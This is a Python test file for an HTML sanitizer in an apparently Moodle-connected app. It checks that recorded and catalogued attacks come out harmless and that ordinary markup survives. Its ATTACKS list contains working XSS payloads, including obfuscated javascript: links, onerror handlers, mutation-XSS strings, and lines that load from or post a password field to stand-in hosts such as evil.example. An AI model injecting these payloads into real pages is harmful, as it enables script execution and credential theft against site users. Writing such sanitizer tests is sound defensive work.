"""Cleaned HTML runs nothing, fetches nothing and leaks nothing."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from companion.content.clean_html import clean_html

RECORDINGS = Path(__file__).parents[2] / "contract" / "moodle" / "recordings"

ALLOWED_TAGS = {
    "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "code", "col", "colgroup", "dd",
    "del", "details", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4",
    "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt",
    "ruby", "s", "samp", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var", "wbr",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "dir", "lang", "title", "href", "rel", "alt", "src", "width", "height", "start", "type",
    "reversed", "colspan", "rowspan", "align", "scope", "span",
}  # fmt: skip


class Inspector(HTMLParser):
    """Lists everything in a text that is not plain structure."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.findings.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.findings.append(f"{tag} {name}")
            if name in ("href", "src") and _has_odd_scheme(value or ""):
                self.findings.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.findings.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.findings.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.findings.append(f"<?{data}>")


def _has_odd_scheme(address: str) -> bool:
    """Say whether a browser, which drops blanks and line ends, reads a scheme that may act."""
    squeezed = "".join(letter for letter in address if letter > " ")
    scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", squeezed)
    return scheme is not None and scheme[1].lower() not in {"http", "https", "mailto", "tel"}


def findings(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.findings


def recorded_messages(name: str) -> list[str]:
    recording = json.loads((RECORDINGS / f"{name}.json").read_text("utf-8"))
    return [post["message"] for post in recording["response"]["posts"]]


@pytest.mark.parametrize("name", ["posts.rich.injection", "posts.setting.raw.injection"])
def test_recorded_attacks_are_harmless_after_cleaning(name: str) -> None:
    for message in recorded_messages(name):
        clean = clean_html(message)
        assert findings(clean) == []
        for word in ("script", "alert", "onerror", "javascript", "evil", "marker", "password"):
            assert word not in clean
        assert clean.startswith("<p>before</p>")
        assert "<p>styled</p>" in clean
        assert clean.endswith("<p>after</p>")


def test_inspector_sees_the_recorded_attacks() -> None:
    (raw,) = recorded_messages("posts.setting.raw.injection")
    assert {"<script>", "img onerror", "<iframe>", "<!-- marker -->"} <= set(findings(raw))


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src='data:image/svg+xml,x'>",
    "<p style='background:url(https://tracker.example)'>x</p>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<video src='https://evil.example/v.mp4' autoplay></video><audio src=x></audio>",
    "<svg onload=alert(1)><a xlink:href='javascript:x'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background='https://tracker.example'><td background=x>",
    "<!-- comment --><!doctype html><?php x ?>",
    "<a id=x name=y class=z data-x=1 target=_blank href='https://academy.example'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<<script>script>alert(1)<</script>/script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attack_is_harmless_after_cleaning(attack: str) -> None:
    clean = clean_html(f"<p>before {attack} after</p>")
    assert findings(clean) == []
    assert "before" in clean


@settings(max_examples=250, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<b>", "<a href='", "'>", '"', "-->", "<!--"])
        | st.text(max_size=8),
        max_size=8,
    )
)
def test_whatever_is_mixed_is_harmless_after_cleaning_once_or_twice(parts: list[str]) -> None:
    clean = clean_html("".join(parts))
    assert findings(clean) == []
    assert findings(clean_html(clean)) == []


@settings(max_examples=150, deadline=None)
@given(text=st.text(max_size=60))
def test_text_without_markup_comes_through_unchanged(text: str) -> None:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    once = clean_html(escaped)
    assert clean_html(once) == once


@pytest.mark.parametrize(
    "html",
    [
        '<p>Plain <b>bold</b> <i>and</i> <a href="https://academy.example/a?b=1&amp;c=2"'
        ' rel="noopener noreferrer">link</a></p>',
        '<p dir="rtl" lang="ar">مياه نظيفة</p>',
        '<ol start="3"><li>three</li></ol><pre><code>x &lt; y</code></pre>',
        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
        '<img alt="A filter" src="https://academy.example/f.jpg" width="10">',
        "<ruby>水<rt>みず</rt></ruby>",
    ],
)
def test_what_carries_text_and_structure_stays(html: str) -> None:
    once = clean_html(html)
    assert findings(once) == []
    for word in ("bold", "href", "rtl", "three", "x &lt; y", "colspan", "alt", "みず"):
        assert (word in once) == (word in html)
    assert clean_html(once) == once


def test_links_tell_the_other_side_nothing() -> None:
    clean = clean_html('<a href="https://academy.example" rel="opener">x</a>')
    assert clean == '<a href="https://academy.example" rel="noopener noreferrer">x</a>'
